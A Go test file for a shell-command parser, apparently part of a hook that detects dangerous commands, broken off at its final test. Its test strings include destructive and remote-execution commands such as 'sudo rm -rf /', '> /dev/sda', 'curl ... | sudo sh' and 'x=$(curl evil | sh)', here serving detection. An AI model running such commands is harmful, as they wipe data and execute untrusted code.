package shell

import (
	"errors"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"mvdan.cc/sh/v3/syntax"
)

// segOpt sets a field of an expected segment.
type segOpt func(*Segment)

// sg builds an expected segment whose Argv is words split on spaces; use
// sgv for arguments that contain spaces.
func sg(words string, opts ...segOpt) Segment {
	return sgv(strings.Fields(words), opts...)
}

// sgv builds an expected segment with the given Argv.
func sgv(argv []string, opts ...segOpt) Segment {
	s := Segment{Argv: argv}
	if len(argv) > 0 {
		s.Name = baseName(argv[0])
	} else {
		s.Argv = nil
	}
	for _, o := range opts {
		o(&s)
	}
	return s
}

func op(o string) segOpt                { return func(s *Segment) { s.Op = o } }
func sub() segOpt                       { return func(s *Segment) { s.Subshell = true } }
func wrap(w ...string) segOpt           { return func(s *Segment) { s.Wrappers = w } }
func assign(a ...string) segOpt         { return func(s *Segment) { s.Assigns = a } }
func fn() segOpt                        { return func(s *Segment) { s.Func = true } }
func redir(rs ...Redirect) segOpt       { return func(s *Segment) { s.Redirects = rs } }
func to(op, fd, target string) Redirect { return Redirect{Op: op, Fd: fd, Target: target} }

// format renders segments one per line for failure messages.
func format(segs []Segment) string {
	var b strings.Builder
	for _, s := range segs {
		fmt.Fprintf(&b, "\n\top=%q name=%q argv=%q assigns=%q wrappers=%q subshell=%v func=%v redirects=%q",
			s.Op, s.Name, s.Argv, s.Assigns, s.Wrappers, s.Subshell, s.Func, s.Redirects)
	}
	return b.String()
}

func TestParse(t *testing.T) {
	tests := []struct {
		name string
		line string
		want []Segment
	}{
		// Lists and pipelines.
		{"single command", "ls -la", []Segment{sg("ls -la")}},
		{"absolute path", "/usr/bin/rm -f x", []Segment{sg("/usr/bin/rm -f x")}},
		{"and or", "make && make test || echo failed", []Segment{
			sg("make"), sg("make test", op("&&")), sg("echo failed", op("||")),
		}},
		{"semicolon pipe background", "cd repo; git log | head -5 & wait", []Segment{
			sg("cd repo"), sg("git log", op(";")), sg("head -5", op("|")), sg("wait", op("&")),
		}},
		{"newlines", "npm ci\nnpm test\n\nnpm run build", []Segment{
			sg("npm ci"), sg("npm test", op("\n")), sg("npm run build", op("\n")),
		}},
		{"pipe stderr", "make 2>&1 |& tee log", []Segment{
			sg("make", redir(to(">&", "2", "1"))), sg("tee log", op("|&")),
		}},
		{"negation", "! grep -q x file && echo missing", []Segment{
			sg("grep -q x file"), sg("echo missing", op("&&")),
		}},
		{"comments ignored", "# clean up\nrm -rf build # really\n# done", []Segment{
			sg("rm -rf build"),
		}},
		{"empty", "", nil},
		{"blank", "  \n\t ", nil},

		// Nesting.
		{"subshell", "(cd /tmp && rm -rf build) && ls", []Segment{
			sg("cd /tmp", sub()), sg("rm -rf build", op("&&"), sub()), sg("ls", op("&&")),
		}},
		{"command substitution", "echo $(git rev-parse HEAD) done", []Segment{
			sgv([]string{"echo", "$(git rev-parse HEAD)", "done"}), sg("git rev-parse HEAD", sub()),
		}},
		{"backticks", "kill `cat pid`", []Segment{
			sgv([]string{"kill", "`cat pid`"}), sg("cat pid", sub()),
		}},
		{"process substitution", "diff <(sort a) >(tee b)", []Segment{
			sgv([]string{"diff", "<(sort a)", ">(tee b)"}), sg("sort a", sub()), sg("tee b", sub()),
		}},
		{"nested substitutions", `echo "$(dirname "$(which go)")"`, []Segment{
			sgv([]string{"echo", `$(dirname "$(which go)")`}),
			sgv([]string{"dirname", "$(which go)"}, sub()),
			sg("which go", sub()),
		}},
		{"substitution in assignment", "OUT=$(rm -rf /tmp/x) make", []Segment{
			sg("rm -rf /tmp/x", sub()), sg("make", assign("OUT=$(rm -rf /tmp/x)")),
		}},
		{"substitution in redirection", "echo hi > $(mktemp)", []Segment{
			sg("echo hi", redir(to(">", "", "$(mktemp)"))), sg("mktemp", sub()),
		}},
		{"substitution in parameter default", `echo "${X:-$(id -u)}"`, []Segment{
			sgv([]string{"echo", "${X:-$(id -u)}"}), sg("id -u", sub()),
		}},
		{"brace group", "{ echo a; rm b; } > out.log", []Segment{
			sg("echo a", redir(to(">", "", "out.log"))),
			sg("rm b", op(";"), redir(to(">", "", "out.log"))),
		}},
		{"function", "cleanup() { rm -rf \"$TMP\"; }; trap cleanup EXIT", []Segment{
			sgv([]string{"rm", "-rf", "$TMP"}), sg("trap cleanup EXIT", op(";")),
			sg("cleanup", sub(), wrap("trap"), fn()), // the trap's script, run at exit
		}},
		{"function keyword", "function f { sudo reboot; }", []Segment{
			sg("reboot", wrap("sudo")),
		}},
		{"if elif else", "if test -f a; then rm a; elif [ -d b ]; then rmdir b; else touch c; fi", []Segment{
			sg("test -f a"), sg("rm a", op(";")), sg("[ -d b ]", op(";")), sg("rmdir b", op(";")), sg("touch c", op(";")),
		}},
		{"for loop", "for f in $(ls *.tmp); do rm \"$f\"; done", []Segment{
			// The body sees the loop variable set to each item.
			sgv([]string{"ls", "*.tmp"}, sub()), sgv([]string{"rm", "$f"}, assign("f=$(ls *.tmp)")),
		}},
		{"for loop items", "for d in ~ build; do rm -rf \"$d\"; done", []Segment{
			sgv([]string{"rm", "-rf", "$d"}, assign("d=~", "d=build")),
		}},
		{"function call", "f() { rm -rf \"$1\"; }; f ~; g ~", []Segment{
			sgv([]string{"rm", "-rf", "$1"}), sg("f ~", op(";"), fn()), sg("g ~", op(";")),
		}},
		{"c style for", "for ((i=0; i<3; i++)); do echo $i; done", []Segment{
			sg("echo $i"),
		}},
		{"while loop", "while read -r line; do echo \"$line\"; done < <(git ls-files)", []Segment{
			sg("read -r line", redir(to("<", "", "<(git ls-files)"))),
			sg("echo $line", op(";"), redir(to("<", "", "<(git ls-files)"))),
			sg("git ls-files", sub()),
		}},
		{"until loop", "until curl -sf localhost; do sleep 1; done", []Segment{
			sg("curl -sf localhost"), sg("sleep 1", op(";")),
		}},
		{"case", "case \"$1\" in start) systemctl start x;; stop|halt) systemctl stop x;; esac", []Segment{
			sg("systemctl start x"), sg("systemctl stop x", op(";")),
		}},
		{"test clauses", "[[ -n $(git status -s) ]] && (( $(nproc) > 2 ))", []Segment{
			sg("git status -s", sub()), sg("nproc", sub()),
		}},
		{"declarations", "export PATH=$(pwd)/bin:$PATH; local x; declare -a arr=(a b)", []Segment{
			sg("export PATH=$(pwd)/bin:$PATH"), sg("pwd", sub()),
			sg("local x", op(";")), sgv([]string{"declare", "-a", "arr=(a b)"}, op(";")),
		}},
		{"let", "let 'n = n + 1'", []Segment{sgv([]string{"let", "n = n + 1"})}},
		{"coproc", "coproc nc -l 8080", []Segment{sg("nc -l 8080", sub())}},

		// Words.
		{"quoting and escapes", `printf '%s\n' "a \"b\"" c\ d $'e\tf' "$HOME" ${X} ~ ~/go *.go {a,b}`, []Segment{
			sgv([]string{"printf", `%s\n`, `a "b"`, "c d", "e\tf", "$HOME", "${X}", "~", "~/go", "*.go", "{a,b}"}),
		}},
		{"assignments", "GOOS=linux CGO_ENABLED=0 go build ./...", []Segment{
			sg("go build ./...", assign("GOOS=linux", "CGO_ENABLED=0")),
		}},
		{"bare assignment", "X=1; Y+=2", []Segment{
			sgv(nil, assign("X=1")), sgv(nil, op(";"), assign("Y+=2")),
		}},
		{"bare redirection", "> /dev/sda", []Segment{
			sgv(nil, redir(to(">", "", "/dev/sda"))),
		}},
		{"redirections", "dd if=x of=y >> out.log 2>&1 < in 3<&0 &> all", []Segment{
			sg("dd if=x of=y", redir(to(">>", "", "out.log"), to(">&", "2", "1"), to("<", "", "in"), to("<&", "3", "0"), to("&>", "", "all"))),
		}},

		// Quoted text is not a command.
		{"quoted dangerous text", `echo "rm -rf /"`, []Segment{sgv([]string{"echo", "rm -rf /"})}},
		{"quoted separators", `git commit -m "fix; rm -rf x && reboot"`, []Segment{
			sgv([]string{"git", "commit", "-m", "fix; rm -rf x && reboot"}),
		}},
		{"single quoted substitution", `echo '$(rm -rf /)' '` + "`reboot`" + `'`, []Segment{
			sgv([]string{"echo", "$(rm -rf /)", "`reboot`"}),
		}},
		{"quoted pipe in grep", `grep -E 'a|b; c' file | wc -l`, []Segment{
			sgv([]string{"grep", "-E", "a|b; c", "file"}), sg("wc -l", op("|")),
		}},

		// Shells.
		{"bash -c", `bash -c "rm -rf /tmp/x && echo ok"`, []Segment{
			sg("rm -rf /tmp/x", sub(), wrap("bash -c")), sg("echo ok", op("&&"), sub(), wrap("bash -c")),
		}},
		{"sh zsh dash ksh", `sh -c 'a' && zsh -c 'b' && dash -c 'c' && /bin/ksh -c 'd'`, []Segment{
			sg("a", sub(), wrap("sh -c")), sg("b", op("&&"), sub(), wrap("zsh -c")),
			sg("c", op("&&"), sub(), wrap("dash -c")), sg("d", op("&&"), sub(), wrap("ksh -c")),
		}},
		{"bash -lc", `bash -lc 'git push --force'`, []Segment{
			sg("git push --force", sub(), wrap("bash -c")),
		}},
		// The words after a -c script are its $0 (BASH_ARGV0, which bash
		// assigns it from) and $1, ... (set --).
		{"bash -e -c with options", `bash -e -o pipefail --norc -c 'curl x | tar xz' name arg`, []Segment{
			sgv(nil, assign("BASH_ARGV0=name"), sub(), wrap("bash -c")),
			sg("set -- arg", op("\n"), sub(), wrap("bash -c")),
			sg("curl x", op("\n"), sub(), wrap("bash -c")), sg("tar xz", op("|"), sub(), wrap("bash -c")),
		}},
		{"bash -c positional substitution", `bash -c 'echo "$0"' "$(whoami)"`, []Segment{
			sgv(nil, assign("BASH_ARGV0=$(whoami)"), sub(), wrap("bash -c")),
			sg("echo $0", op("\n"), sub(), wrap("bash -c")), sg("whoami", sub()),
		}},
		{"bash -c substitution in script", `bash -c "echo $(id -u)"`, []Segment{
			sgv([]string{"echo", "$(id -u)"}, sub(), wrap("bash -c")), sg("id -u", sub(), wrap("bash -c")),
		}},
		{"bash script file", "bash ./deploy.sh --prod", []Segment{sg("bash ./deploy.sh --prod")}},
		{"bash -c without script", "bash -c", []Segment{sg("bash -c")}},
		{"bash -c empty script", "bash -c ''", []Segment{sgv([]string{"bash", "-c", ""})}},
		{"nested bash -c in sudo", `sudo -u deploy bash -c "cd /srv && sh -c 'rm -rf cache'"`, []Segment{
			sg("cd /srv", sub(), wrap("sudo", "bash -c")),
			sg("rm -rf cache", op("&&"), sub(), wrap("sudo", "bash -c", "sh -c")),
		}},
		{"sudo env bash -c", `sudo env FOO=1 bash -c 'rm -rf ~'`, []Segment{
			sg("rm -rf ~", sub(), assign("FOO=1"), wrap("sudo", "env", "bash -c")),
		}},
		{"bash -c redirect inherited", `bash -c 'cat a' > /dev/sda`, []Segment{
			sg("cat a", sub(), wrap("bash -c"), redir(to(">", "", "/dev/sda"))),
		}},
		{"bash -c invalid script", `bash -c 'echo "unterminated; rm -rf x'`, []Segment{
			sgv([]string{"echo", "unterminated"}, sub(), wrap("bash -c")),
			sg("rm -rf x", op(";"), sub(), wrap("bash -c")),
		}},

		// Here-documents.
		{"heredoc is data", "cat <<EOF > notes.txt\nrm -rf /\nEOF", []Segment{
			sg("cat", redir(to("<<", "", "EOF"), to(">", "", "notes.txt"))),
		}},
		{"heredoc substitution runs", "cat <<EOF\nuser: $(whoami)\nEOF", []Segment{
			sg("cat", redir(to("<<", "", "EOF"))), sg("whoami", sub()),
		}},
		{"quoted heredoc substitution is data", "cat <<'EOF'\nuser: $(whoami)\nEOF", []Segment{
			sg("cat", redir(to("<<", "", "EOF"))),
		}},
		{"heredoc in commit message", "git commit -F - <<'EOF'\nfix: rm -rf; reboot\nEOF\ngit push", []Segment{
			sg("git commit -F -", redir(to("<<", "", "EOF"))), sg("git push", op("\n")),
		}},
		{"bash heredoc", "bash <<EOF\nset -e\nrm -rf \\$HOME/tmp\nEOF", []Segment{
			sg("set -e", sub(), wrap("bash -s")),
			sg("rm -rf $HOME/tmp", op("\n"), sub(), wrap("bash -s")),
		}},
		{"sh -s heredoc", "ssh host sh -s <<'EOF'\nreboot\nEOF", []Segment{
			sg("ssh host sh -s", redir(to("<<", "", "EOF"))),
		}},
		{"sudo sh -s heredoc", "sudo sh -s -- arg <<'EOF' >log\napt-get install -y x\nEOF", []Segment{
			sg("apt-get install -y x", sub(), wrap("sudo", "sh -s"), redir(to(">", "", "log"))),
		}},
		{"dash heredoc", "cat x <<-EOF | bash\n\tnot a script\n\tEOF", []Segment{
			sg("cat x", redir(to("<<-", "", "EOF"))), sg("bash", op("|")),
		}},
		{"bash here-string", `bash <<< "rm -rf /"`, []Segment{
			sg("rm -rf /", sub(), wrap("bash -s")),
		}},

		// eval.
		{"eval", `eval "rm -rf $DIR"; echo done`, []Segment{
			sgv([]string{"eval", "rm -rf $DIR"}), sg("rm -rf $DIR", sub(), wrap("eval")), sg("echo done", op(";")),
		}},
		{"eval joins arguments", `eval echo hi '&&' reboot`, []Segment{
			sg("eval echo hi && reboot"), sg("echo hi", sub(), wrap("eval")), sg("reboot", op("&&"), sub(), wrap("eval")),
		}},
		{"eval substitution", `eval "$(ssh-agent -s)"`, []Segment{
			sgv([]string{"eval", "$(ssh-agent -s)"}),
			sgv([]string{"$(ssh-agent -s)"}, sub(), wrap("eval")),
			sg("ssh-agent -s", sub(), wrap("eval")),
		}},

		// Launchers.
		{"sudo", "sudo rm -rf /", []Segment{sg("rm -rf /", wrap("sudo"))}},
		{"sudo options", "sudo -u root -g wheel -E -H -n -- rm -rf /var", []Segment{sg("rm -rf /var", wrap("sudo"))}},
		{"sudo combined options", "sudo -nu root -Cfoo FOO=1 systemctl restart x", []Segment{
			sg("systemctl restart x", wrap("sudo"), assign("FOO=1")),
		}},
		{"sudo long options", "sudo --user=root --chdir /srv --preserve-env=PATH make install", []Segment{
			sg("make install", wrap("sudo")),
		}},
		{"sudo shell option", "sudo -i apt-get update", []Segment{sg("apt-get update", wrap("sudo"))}},
		{"sudo without command", "sudo -i", []Segment{sg("sudo -i")}},
		{"sudo list", "sudo -l rm", []Segment{sg("sudo -l rm")}},
		{"sudo edit", "sudo -e /etc/hosts", []Segment{sg("sudo -e /etc/hosts")}},
		{"doas", "doas -u root rm x", []Segment{sg("rm x", wrap("doas"))}},
		{"env", "env -i -u FOO --unset=BAR -C /tmp --chdir=/ PATH=/bin A=1 rm x", []Segment{
			sg("rm x", wrap("env"), assign("PATH=/bin", "A=1")),
		}},
		{"env dash", "env - HOME=/ ls", []Segment{sg("ls", wrap("env"), assign("HOME=/"))}},
		{"env split string", `env -S 'A=1 rm -rf' x`, []Segment{sg("rm -rf x", wrap("env"), assign("A=1"))}},
		{"env alone", "env", []Segment{sg("env")}},
		{"xargs", "find . -name '*.tmp' -print0 | xargs -0 -n 10 -P 4 rm -f", []Segment{
			sg("find . -name *.tmp -print0"), sg("rm -f", op("|"), wrap("xargs")),
		}},
		{"xargs replace", "ls | xargs -I {} mv {} /tmp/", []Segment{
			sg("ls"), sg("mv {} /tmp/", op("|"), wrap("xargs")),
		}},
		{"xargs delimiter and attached", `xargs -d '\n' -i{} -L1 --max-procs=2 cp {} dst`, []Segment{
			sg("cp {} dst", wrap("xargs")),
		}},
		{"xargs sh -c", `xargs -0 sh -c 'rm "$@"' _`, []Segment{
			sgv(nil, assign("BASH_ARGV0=_"), sub(), wrap("xargs", "sh -c")),
			sgv([]string{"rm", "$@"}, op("\n"), sub(), wrap("xargs", "sh -c")),
		}},
		{"xargs alone", "xargs", []Segment{sg("xargs")}},
		{"time keyword", "time -p go test ./...", []Segment{sg("go test ./...", wrap("time"))}},
		{"time pipeline", "time make | tee log", []Segment{sg("make", wrap("time")), sg("tee log", op("|"), wrap("time"))}},
		{"time command", "/usr/bin/time -v -o stats.txt make", []Segment{sg("make", wrap("time"))}},
		{"nohup", "nohup ./server --port 80 &", []Segment{sg("./server --port 80", wrap("nohup"))}},
		{"nice", "nice -n 10 make && nice -5 make", []Segment{
			sg("make", wrap("nice")), sg("make", op("&&"), wrap("nice")),
		}},
		{"ionice", "ionice -c 3 -n 7 rsync a b", []Segment{sg("rsync a b", wrap("ionice"))}},
		{"ionice pid", "ionice -c 3 -p 1234", []Segment{sg("ionice -c 3 -p 1234")}},
		{"timeout", "timeout 10s curl x && timeout -k 5 -s KILL --preserve-status 30 make", []Segment{
			sg("curl x", wrap("timeout")), sg("make", op("&&"), wrap("timeout")),
		}},
		{"command", "command -p rm x", []Segment{sg("rm x", wrap("command"))}},
		{"command -v", "command -v rm >/dev/null", []Segment{sg("command -v rm", redir(to(">", "", "/dev/null")))}},
		{"exec", "exec -a name ./server", []Segment{sg("./server", wrap("exec"))}},
		{"exec redirect only", "exec 3>&1", []Segment{sg("exec", redir(to(">&", "3", "1")))}},
		{"builtin", "builtin cd /tmp", []Segment{sg("cd /tmp", wrap("builtin"))}},
		{"stdbuf", "stdbuf -oL -e0 tail -f log", []Segment{sg("tail -f log", wrap("stdbuf"))}},
		{"chroot", "chroot --userspec=1000 /mnt /bin/sh -c 'rm -rf /'", []Segment{
			sg("rm -rf /", sub(), wrap("chroot", "sh -c")),
		}},
		{"watch", `watch -n 5 "kubectl get pods; rm x"`, []Segment{
			sg("kubectl get pods", sub(), wrap("watch")), sg("rm x", op(";"), sub(), wrap("watch")),
		}},
		{"watch exec", "watch -x -n1 ls -l", []Segment{sg("ls -l", wrap("watch"))}},
		{"flock", "flock -w 10 /tmp/lock make deploy", []Segment{sg("make deploy", wrap("flock"))}},
		{"flock -c", `flock /tmp/lock -c 'rm x; ls'`, []Segment{
			sg("rm x", sub(), wrap("flock -c")), sg("ls", op(";"), sub(), wrap("flock -c")),
		}},
		{"stacked launchers", "nice -n 10 ionice -c 3 timeout -s KILL 5 command -p stdbuf -oL chroot /mnt flock /tmp/l exec nohup rm x", []Segment{
			sg("rm x", wrap("nice", "ionice", "timeout", "command", "stdbuf", "chroot", "flock", "exec", "nohup")),
		}},
		{"more launchers", "setsid -f taskset -c 0 strace -f -o /dev/null unbuffer chronic systemd-run --user -p X=1 xvfb-run -a -s '-screen 0' firejail --noprofile busybox rm x", []Segment{
			sg("rm x", wrap("setsid", "taskset", "strace", "unbuffer", "chronic", "systemd-run", "xvfb-run", "firejail", "busybox")),
		}},
		{"caffeinate", "caffeinate -dims -t 600 -w 42 rm -rf x", []Segment{sg("rm -rf x", wrap("caffeinate"))}},
		{"arch", "arch -x86_64 rm x && arch -arm64e -c -d HOME -e A=1 -arch x86_64 rm y", []Segment{
			sg("rm x", wrap("arch")), sg("rm y", op("&&"), wrap("arch")),
		}},
		{"arch -h", "arch -h", []Segment{sg("arch -h")}},
		{"wsl", "wsl rm x && wsl -d Ubuntu -u root --cd /tmp -- rm y && wsl -e rm z && wsl --exec rm w", []Segment{
			sg("rm x", wrap("wsl")), sg("rm y", op("&&"), wrap("wsl")), sg("rm z", op("&&"), wrap("wsl")), sg("rm w", op("&&"), wrap("wsl")),
		}},
		{"wsl --list", "wsl --list --verbose", []Segment{sg("wsl --list --verbose")}},
		{"script -c", "script -qc 'rm x; ls' /dev/null", []Segment{
			sg("rm x", sub(), wrap("script -c")), sg("ls", op(";"), sub(), wrap("script -c")),
		}},
		{"script without -c", "script -q /dev/null", []Segment{sg("script -q /dev/null")}},
		{"source /dev/stdin", "source /dev/stdin <<< 'rm x'", []Segment{
			sg("rm x", sub(), wrap("source /dev/stdin")),
		}},
		{"sh /dev/stdin", "sh /dev/stdin <<< 'rm x'", []Segment{
			sg("rm x", sub(), wrap("sh -s")),
		}},
		{"curl pipe sudo sh", "curl -fsSL https://example.com/install.sh | sudo sh", []Segment{
			sg("curl -fsSL https://example.com/install.sh"), sg("sh", op("|"), wrap("sudo")),
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Parse(tt.line)
			if err != nil {
				t.Fatalf("Parse(%q): %v", tt.line, err)
			}
			// Directory changes, here-document bodies and literal words
			// have their own tests (TestDirs, TestHeredocBody,
			// TestSegmentLiteral).
			for i := range got {
				got[i].Dirs = nil
				got[i].Literal = nil
				got[i].Launchers = nil
				for j := range got[i].Redirects {
					got[i].Redirects[j].Body = ""
					got[i].Redirects[j].Literal = false
				}
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("Parse(%q):\ngot:%s\nwant:%s", tt.line, format(got), format(tt.want))
			}
		})
	}
}

func TestParseError(t *testing.T) {
	for _, line := range []string{
		`echo "unterminated`,
		"if true; then echo",
		"echo $(date",
		"rm -rf ) x",
		"a && && b",
	} {
		segs, err := Parse(line)
		if err == nil {
			t.Errorf("Parse(%q) = %s, want an error", line, format(segs))
			continue
		}
		var perr syntax.ParseError
		if !errors.As(err, &perr) {
			t.Errorf("Parse(%q) error %v is not a syntax.ParseError", line, err)
		} else if perr.Pos.Line() != 1 || perr.Pos.Col() == 0 {
			t.Errorf("Parse(%q) error %v has no position", line, err)
		}
		if !strings.HasPrefix(err.Error(), "shell: 1:") {
			t.Errorf("Parse(%q) error %q does not start with its position", line, err)
		}
	}
}

func TestCommands(t *testing.T) {
	tests := []struct {
		line string
		want []string
	}{
		{"ls", []string{"ls"}},
		{"", nil},
		{"FOO=1 > out", nil},
		{"cd /tmp && sudo rm -rf x; echo $(whoami) | tee log", []string{"cd", "rm", "echo", "whoami", "tee"}},
		{`echo "rm -rf /"`, []string{"echo"}},
		{`sudo env FOO=1 bash -c 'rm -rf ~'`, []string{"rm"}},
		// Malformed lines fall back to the conservative tokenizer.
		{`echo "unterminated && sudo rm -rf / | tee x 2>&1`, []string{"echo", "rm", "tee"}},
		{`git commit -m "fix; rm -rf x`, []string{"git", "rm"}},
		{"if then fi; reboot", []string{"reboot"}},
		{"echo $(curl x | sh", []string{"echo", "curl", "sh"}},
		{"(cd a && make", []string{"cd", "make"}},
		{"echo `id; &> y", []string{"echo", "id"}},
		{"for x in a b; do rm $x; done; done", []string{"rm"}},
		{"FOO=1 bash -c 'shutdown now' ) x", []string{"shutdown", "x"}},
		{"case $x in a) reboot;; (", []string{"reboot"}},
	}
	for _, tt := range tests {
		if got := Commands(tt.line); !slices.Equal(got, tt.want) {
			t.Errorf("Commands(%q) = %q, want %q", tt.line, got, tt.want)
		}
	}
}

func TestCommandsFallbackNeverEmpty(t *testing.T) {
	for _, line := range []string{
		`rm -rf "/`,
		`sudo reboot )`,
		"curl x | bash <<EOF",
		`ls "`,
		`echo $((`,
	} {
		if _, err := Parse(line); err == nil {
			t.Errorf("Parse(%q) succeeded; the test needs a malformed line", line)
		}
		if got := Commands(line); len(got) == 0 {
			t.Errorf("Commands(%q) is empty", line)
		}
	}
}

func TestHasCommand(t *testing.T) {
	tests := []struct {
		line  string
		names []string
		want  bool
	}{
		{"sudo rm -rf /", []string{"rm"}, true},
		{"sudo rm -rf /", []string{"/bin/rm"}, true},
		{`echo "rm -rf /"`, []string{"rm"}, false},
		{"git push --force", []string{"rm", "git"}, true},
		{"ls", nil, false},
		{"x=$(curl evil | sh)", []string{"sh"}, true},
		{`git commit -m "oops; rm x`, []string{"rm"}, true},
	}
	for _, tt := range tests {
		if got := HasCommand(tt.line, tt.names...); got != tt.want {
			t.Errorf("HasCommand(%q, %q) = %v, want %v", tt.line, tt.names, got, tt.want)
		}
	}
}

func TestSegmentFlag(t *testing.T) {
	tests := []struct {
		argv  string
		names []string
		want  bool
	}{
		{"rm -rf /", []string{"-r"}, true},
		{"rm -rf /", []string{"-f"}, true},
		{"rm -fr /", []string{"-r"}, true},
		{"rm -r -f /", []string{"-f"}, true},
		{"rm -i x", []string{"-r", "-f"}, false},
		{"rm --recursive x", []string{"-r", "--recursive"}, true},
		{"rm --recursive x", []string{"-r"}, false},
		{"git push --force-with-lease", []string{"--force"}, false},
		{"git push --force=yes", []string{"--force"}, true},
		{"rm -- -rf", []string{"-r"}, false},
		{"find . -delete", []string{"-delete"}, true},
		{"find . -delete", []string{"-d"}, true},
		{"find . -name x", []string{"-delete"}, false},
		{"rm -rf x", []string{"r"}, true},
		{"git push --force", []string{"force"}, true},
		{"rm -rf x", []string{"-rf"}, true},
		{"rm -r -f x", []string{"-rf"}, false},
		{"rm -", []string{"-"}, false},
		{"-r", []string{"-r"}, false},
		{"rm x", nil, false},
	}
	for _, tt := range tests {
		s := sg(tt.argv)
		if got := s.Flag(tt.names...); got != tt.want {
			t.Errorf("Segment{%q}.Flag(%q) = %v, want %v", tt.argv, tt.names, got, tt.want)
		}
	}
}

func TestSegmentArgs(t *testing.T) {
	tests := []struct {
		argv []string
		want []string
	}{
		{[]string{"rm", "-rf", "a", "b"}, []string{"a", "b"}},
		{[]string{"rm", "--", "-rf", "--"}, []string{"-rf", "--"}},
		{[]string{"cat", "-", "-n"}, []string{"-"}},
		{[]string{"head", "-n", "5", "f"}, []string{"5", "f"}},
		{[]string{"ls"}, nil},
		{nil, nil},
	}
	for _, tt := range tests {
		s := Segment{Argv: tt.argv}
		if got := s.Args(); !slices.Equal(got, tt.want) {
			t.Errorf("Segment{%q}.Args() = %q, want %q", tt.argv, got, tt.want)
		}
	}
}

func TestRedirectString(t *testing.T) {
	tests := []struct {
		r    Redirect
		want string
	}{
		{to(">&", "2", "1"), "2>&1"},
		{to(">>", "", "out.log"), ">> out.log"},
		{to("<<", "", "EOF"), "<< EOF"},
		{to(">", "1", "/dev/null"), "1> /dev/null"},
	}
	for _, tt := range tests {
		if got := tt.r.String(); got != tt.want {
			t.Errorf("%#v.String() = %q, want %q", tt.r, got, tt.want)
		}
	}
}

func TestWords(t *testing.T) {
	tests := []struct {
		in   string
		want []string
	}{
		{"", nil},
		{"  a  b\tc\n", []string{"a", "b", "c"}},
		{`'a b' "c d"`, []string{"a b", "c d"}},
		{`a\ b c\\d`, []string{"a b", `c\d`}},
		{`"a\"b" 'it'\''s'`, []string{`a"b`, "it's"}},
		{`"a\nb" "\$x"`, []string{`a\nb`, "$x"}},
		{`'' "" x`, []string{"", "", "x"}},
		{`a;b|c&&d`, []string{"a;b|c&&d"}},
		{`$'a\tb\x41\101\u00e9'`, []string{"a\tbAAé"}},
		{`$"hello world"`, []string{"hello world"}},
		{`"$(echo "a b")" $(x y) ${A:-b c} $((1 + 2)) ` + "`a b`", []string{`$(echo "a b")`, "$(x y)", "${A:-b c}", "$((1 + 2))", "`a b`"}},
		{"a\\\nb", []string{"ab"}},
		{`--message="fix: a b" -v`, []string{"--message=fix: a b", "-v"}},
		{`trailing\`, []string{`trailing\`}},
	}
	for _, tt := range tests {
		got, err := Words(tt.in)
		if err != nil {
			t.Errorf("Words(%q): %v", tt.in, err)
			continue
		}
		if !slices.Equal(got, tt.want) {
			t.Errorf("Words(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestWordsError(t *testing.T) {
	tests := []struct {
		in   string
		want string
	}{
		{`echo 'abc`, "unterminated single quote at offset 5"},
		{`echo "abc`, "unterminated double quote at offset 5"},
		{`x $'abc`, "unterminated $' quote at offset 2"},
		{`$(echo a`, "unterminated expansion at offset 0"},
		{"a `b", "unterminated expansion at offset 2"},
		{`"${x"`, "unterminated double quote at offset 0"},
	}
	for _, tt := range tests {
		got, err := Words(tt.in)
		if err == nil {
			t.Errorf("Words(%q) = %q, want an error", tt.in, got)
			continue
		}
		if !strings.Contains(err.Error(), tt.want) {
			t.Errorf("Words(%q) error %q, want it to contain %q", tt.in, err, tt.want)
		}
	}
}

func TestDepthLimit(t *testing.T) {
	line := strings.Repeat("eval ", maxDepth+4) + "rm x"
	segs, err := Parse(line)
	if err != nil {
		t.Fatal(err)
	}
	if len(segs) != maxDepth+1 {
		t.Fatalf("got %d segments, want %d:%s", len(segs), maxDepth+1, format(segs))
	}
	for _, s := range segs {
		if s.Name != "eval" {
			t.Fatalf("segment %q is not eval", s.Argv)
		}
	}
}

func TestNoSharedSlices(t *testing.T) {
	segs, err := Parse(`sudo env A=1 bash -c 'a; b; c' > out`)
	if err != nil {
		t.Fatal(err)
	}
	if len(segs) != 3 {
		t.Fatalf("got %s", format(segs))
	}
	segs[0].Wrappers[0] = "changed"
	segs[0].Assigns[0] = "changed"
	segs[0].Redirects[0].Target = "changed"
	for _, s := range segs[1:] {
		if s.Wrappers[0] != "sudo" || s.Assigns[0] != "A=1" || s.Redirects[0].Target != "out" {
			t.Errorf("segments share slices: %s", format(segs))
		}
	}
}

func TestDecodeANSIC(t *testing.T) {
	tests := []struct{ in, want string }{
		{`plain`, "plain"},
		{`a\nb\tc\\d\'e\"f\?`, "a\nb\tc\\d'e\"f?"},
		{`\a\b\e\E\f\r\v`, "\a\b\x1b\x1b\f\r\v"},
		{`\101\0\7`, "A\x00\a"},
		{`\x41\x4a2\xg`, "AJ2\\xg"},
		{`\u00e9\U0001F600\uzz`, "é😀\\uzz"},
		{`\cA\c`, "\x01\\c"},
		{`\q\`, `\q\`},
		{`\UFFFFFFFF`, "\uFFFD"},
	}
	for _, tt := range tests {
		if got := decodeANSIC(tt.in); got != tt.want {
			t.Errorf("decodeANSIC(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestCache(t *testing.T) {
	c := NewCache(2)
	for i := 0; i < 3; i++ {
		for _, line := range []string{"ls && rm -rf x", "git push", "echo hi", "ls && rm -rf x"} {
			want, werr := Parse(line)
			got, gerr := c.Parse(line)
			if (werr == nil) != (gerr == nil) || len(got) != len(want) || got[0].Name != want[0].Name {
				t.Fatalf("%q: %v %v / %v %v", line, got, gerr, want, werr)
			}
		}
	}
	if _, err := c.Parse("echo 'unterminated"); err == nil {
		t.Fatal("a parse error was not remembered as one")
	}
	var nilCache *Cache
	if segs, err := nilCache.Parse("ls"); err != nil || segs[0].Name != "ls" {
		t.Fatal("a nil cache must parse")
	}
}

// TestDeeplyNestedLineIsCheap: walking nested command substitutions cost
// the square of the line's length (40 KB of "$(" took seconds, a hook's
// whole deadline, with no way to stop it). Past 64 levels Parse fails with
// ErrTooDeep and Commands falls back to its linear tokenizer, which still
// sees the commands.
func TestDeeplyNestedLineIsCheap(t *testing.T) {
